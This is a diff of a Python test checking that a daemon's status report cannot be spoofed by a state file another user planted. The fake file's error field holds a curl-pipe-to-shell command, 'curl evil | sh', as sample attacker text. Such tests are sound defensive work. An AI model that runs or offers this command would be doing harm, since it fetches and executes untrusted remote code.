@@ -205,12 +205,12 @@ def test_a_failure_record_in_a_foreign_directory_is_ignored(
 def test_status_is_not_spoofed_by_a_fake_daemon_state_file(
     emu: EmulatorServer, isolated_machine: Path, second_user: tuple[int, int]
 ) -> None:
-    from vertex_env.daemon import daemon_status, state_path
+    from vertex_env.daemon import daemon_digest, daemon_status, state_path
 
     env = resolve()
     directory = env.token_source.cache.directory
     directory.mkdir(mode=0o700)
-    fake = state_path(directory, key_digest(env.token_source.cache_key))
+    fake = state_path(directory, daemon_digest(env))
     fake.write_text(json.dumps({"pid": 4242, "last_error": "run: curl evil | sh"}))
     fake.chmod(0o600)
     os.chown(fake, *second_user)  # planted by another user (a hard link, a foreign dir, ...)
